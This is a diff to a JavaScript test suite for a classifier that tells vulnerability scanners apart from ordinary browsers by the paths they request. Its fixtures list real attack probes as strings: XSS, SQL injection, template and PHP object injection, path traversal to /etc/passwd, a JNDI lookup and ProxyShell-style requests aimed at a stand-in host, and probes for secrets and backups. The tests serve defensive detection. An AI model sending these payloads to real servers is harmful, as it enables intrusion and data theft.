@@ -48,6 +48,14 @@ test.each([
   '/api/index.php/v1/config/application?public=true',
   '/..%252f..%252fetc/passwd',
   '/?x=%24%7Bjndi:ldap://evil.example/a%7D',
+  '/search?q=%3Cscript%3Ealert(1)%3C/script%3E',
+  '/search?q=%3Cscript%20src=//evil.example/x.js%3E',
+  '/user/register?element_parents=account/mail/%23value&ajax_form=1',
+  '/autodiscover/autodiscover.json?@evil.example/owa/?&Email=autodiscover/autodiscover.json%3F@evil.example',
+  '/hello?name=%7B%7B7*7%7D%7D',
+  '/?data=O:8:%22stdClass%22:1:%7Bs:1:%22a%22;i:1;%7D',
+  '/products?id=7%20AND%201=1--',
+  '/download?file=/etc/passwd',
 ])('whatever the site answers, only a scanner asks for %s', (path) => {
   expect(classesOf([request(path), request(path, { status: 200 })])).toEqual(['scanner', 'scanner']);
 });
@@ -57,6 +65,11 @@ test.each([
   '/environment',
   '/.well-known/security.txt',
   '/search?q=union+select',
+  '/search?q=%3Cscript%3E+tag',
+  '/search?q=how+to+read+/etc/passwd',
+  '/user/register?ajax_form=1&element_parents=user_picture',
+  '/autodiscover/autodiscover.json?Email=ann%40shop.example&Protocol=ActiveSync',
+  '/team/app/.git/info/refs?service=git-upload-pack',
 ])('%s is an ordinary request', (path) => {
   expect(classesOf([request(path)])).toEqual(['browser']);
 });
@@ -82,8 +95,40 @@ test('logins of WordPress and Joomla are ordinary on sites that have them, also 
 });
 
 test('a site that has a page for everything does not hide scanners', () => {
-  const paths = ['/wp-cron.php', '/phpmyadmin/', '/actuator/env', '/owa/', '/jolokia/list', '/xmlrpc.php'];
-  expect(classesOf(paths.map((path) => request(path, { status: 200 }))).at(-1)).toBe('scanner');
+  const withSecrets = ['/.env', '/wp-cron.php', '/phpmyadmin/', '/owa/'];
+  const without = ['/wp-cron.php', '/joomla.xml', '/magento_version', '/telescope/requests', '/phpmyadmin/'];
+  for (const paths of [withSecrets, [...without, '/actuator/env', '/owa/', '/jolokia/list']])
+    expect(classesOf(paths.map((path) => request(path, { status: 200 }))).at(-1)).toBe('scanner');
+});
+
+test('a site with several kinds of software is one with many tools', () => {
+  const paths = ['/jenkins/script', '/solr/admin/cores', '/phpmyadmin/', '/telescope/requests', '/owa/'];
+  expect(classesOf(paths.map((path) => request(path, { status: 200 })))).not.toContain('scanner');
+});
+
+test('the error page of Laravel is ordinary on sites that have it', () => {
+  const paths = ['/_ignition/health-check', '/_ignition/execute-solution'];
+  expect(classesOf(paths.map((path) => request(path, { status: 200 })))).toEqual(['browser', 'browser']);
+  expect(classesOf(paths.map((path) => request(path)))).toEqual(['scanner', 'scanner']);
+});
+
+test('a network drive looks for names that operating systems use', () => {
+  const names = ['.DS_Store', '.hidden', '._notes.txt', '.git/config', '.Trash-1000', 'backup.zip', 'x', 'y'];
+  const userAgent = 'WebDAVFS/3.0.0';
+  const requests = names.map((name) => request(`/${name}`, { method: 'PROPFIND', userAgent }));
+  expect(classesOf(requests)).not.toContain('scanner');
+  expect(classesOf([request('/.git/config', { userAgent })])).toEqual(['scanner']);
+});
+
+test('one request for the state of a server can be that of a monitoring agent', () => {
+  const [ip, userAgent] = ['10.0.0.9', 'Datadog Agent/7.53.0'];
+  expect(classesOf([request('/server-status?auto', { ip, userAgent })])).toEqual(['unknown']);
+});
+
+test('a backup that is missing in a folder which the site has is ordinary, at the root it is a probe', () => {
+  const inFolder = [request('/backups/monday', { status: 200 }), request('/backups/db.sql.gz')];
+  expect(classesOf(inFolder)).toEqual(['browser', 'browser']);
+  expect(classesOf([request('/db.sql.gz')])).toEqual(['scanner']);
 });
 
 test('many missing paths in a short time are a scan, and the requests before are revised', () => {
